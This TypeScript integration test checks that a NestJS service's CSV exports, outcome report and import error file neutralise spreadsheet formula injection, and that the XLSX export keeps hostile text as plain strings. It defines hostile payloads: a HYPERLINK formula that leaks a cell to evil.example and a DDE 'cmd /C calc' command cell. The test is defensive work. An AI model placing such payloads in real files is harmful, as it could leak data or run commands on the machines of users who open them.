import type { INestApplicationContext } from '@nestjs/common';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import ExcelJS from 'exceljs';
import { client, type Client } from './support/http.js';
import { type FairRow, insertBuyer, insertCompany, insertFair, insertMarks, insertParticipation } from './support/records.js';
import { seedAgency, startTestApp, type SeededAgency, type TestApp } from './support/test-app.js';
import { importFile, importsDir } from './support/uploads.js';
import { startWorker, waitUntilQuiet } from './support/worker.js';

/** Cells a spreadsheet would run as formulas, as a hostile user would type them in. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
const CALC = "+cmd|' /C calc'!A0";
const AT = '@SUM(1+1)';
const MINUS = '-2+3';

type CsvRecord = Record<string, string>;
const csvRecords = (body: string): CsvRecord[] => parse<CsvRecord>(body, { bom: true, columns: true, relax_column_count: true });
const csvRows = (body: string): string[][] => parse(body, { bom: true, relax_column_count: true });
/** Every cell of a CSV body that a spreadsheet would run (a plain decimal number is not a formula). */
const formulaCells = (body: string): string[] =>
  csvRows(body).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));

/**
 * CSV formula injection (issue 11, OWASP CSV Injection): every CSV the service writes — the
 * consultations export, the outcome report, the import error file — puts a single quote before a
 * cell that starts with =, +, -, @, tab or carriage return; the XLSX export keeps the plain text.
 */
describe('CSV formula injection', () => {
  let test: TestApp;
  let worker: INestApplicationContext;
  let a: SeededAgency;
  let manager: Client;
  let fair: FairRow;
  let companyId: string;

  beforeAll(async () => {
    test = await startTestApp({ IMPORTS_DIR: importsDir(), OUTCOME_SWEEP_INTERVAL_MS: '1000' });
    worker = await startWorker();
    a = await seedAgency(test, 'Wonju');
    manager = client(test, a.manager.token);
    fair = await insertFair(test, a.id);
    companyId = await insertCompany(test, a.id, HYPERLINK);
    await insertParticipation(test, a.id, fair.id, companyId);
    const buyerId = await insertBuyer(test, a.id, 'CN');
    await test.db.query('UPDATE buyers SET organisation = $2, contact_name = $3 WHERE id = $1', [buyerId, AT, CALC]);
    // Through the API (input trimming may turn "\t=1+1" into "=1+1": neutralised either way).
    const created = await manager.post('/v1/consultations', {
      fairId: fair.id, companyId, buyerId, occurredAt: '2017-05-16T03:00:00Z',
      estimatedValue: { amount: '100.00', currency: 'USD' }, productInterest: MINUS, notes: '\t=1+1',
    });
    expect(created.statusCode).toBe(201);
    // Stored as it is (a record written before the trimming, or by SQL): the tab stays in front.
    await test.db.query(
      `INSERT INTO consultations (agency_id, version, fair_id, company_id, buyer_country, occurred_at, local_date, type, stage, logged_by, notes, product_interest)
       VALUES ($1, 1, $2, $3, 'CN', '2017-05-16T04:00:00Z', '2017-05-16', 'booth', 'consulted', $4, E'\\t=1+1', E'\\r=2+2')`,
      [a.id, fair.id, companyId, a.staff.id],
    );
    await insertMarks(test, a.id, fair.id);
    await waitUntilQuiet(test);
  });
  afterAll(async () => {
    await worker.close();
    await test.close();
  });

  it('GET /v1/consultations/export.csv neutralises every formula cell, the trimmed and the stored tab alike', async () => {
    const response = await manager.get(`/v1/consultations/export.csv?fairId=${fair.id}`);
    expect(response.statusCode).toBe(200);
    const rows = csvRecords(response.body).sort((x, y) => x.occurredAt.localeCompare(y.occurredAt));
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({ company: `'${HYPERLINK}`, buyerOrganisation: `'${AT}`, buyerContact: `'${CALC}`, productInterest: `'${MINUS}`, estimatedAmount: '100.00' });
    // Whether the API kept the tab or trimmed it to "=1+1", the cell comes out quoted.
    expect(rows[0].notes).toMatch(/^'\t?=1\+1$/);
    expect(rows[1]).toMatchObject({ company: `'${HYPERLINK}`, notes: "'\t=1+1", productInterest: "'\r=2+2" });
    expect(formulaCells(response.body)).toEqual([]);
  });

  it('GET /v1/consultations/export.xlsx keeps the text as it is (string cells, never formulas)', async () => {
    const response = await manager.get(`/v1/consultations/export.xlsx?fairId=${fair.id}`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const values = book.worksheets[0].getRow(2).values as unknown[];
    expect(values).toContain(HYPERLINK);
    expect(values.some((value) => typeof value === 'object' && value !== null && 'formula' in value)).toBe(false);
  });

  it('GET /v1/fairs/{fairId}/outcomes/report.csv neutralises the company name', async () => {
    const response = await manager.get(`/v1/fairs/${fair.id}/outcomes/report.csv`);
    expect(response.statusCode).toBe(200);
    const company = csvRows(response.body).find((record) => record.includes(`'${HYPERLINK}`));
    expect(company).toBeDefined();
    expect(response.body).not.toContain(`,${HYPERLINK}`);
    expect(formulaCells(response.body)).toEqual([]);
  });

  it("GET /v1/imports/{id}/errors.csv neutralises a hostile header named in a row's error", async () => {
    const content = stringify([['Company', '=Land', 'Date'], [companyId, 'Atlantis', '2017-05-16']]);
    const result = await importFile(test, a.manager.token, {
      fairId: fair.id, kind: 'consultations', mapping: JSON.stringify({ Company: 'company', '=Land': 'country', Date: 'occurredAt' }),
    }, { name: 'hostile.csv', content });
    expect(result.rows.rejected).toBe(1);
    const errors = csvRecords((await manager.get(`/v1/imports/${result.id}/errors.csv`)).body);
    expect(errors).toEqual([{ row: '2', column: "'=Land", message: expect.stringContaining('Atlantis') }]);
  });
});
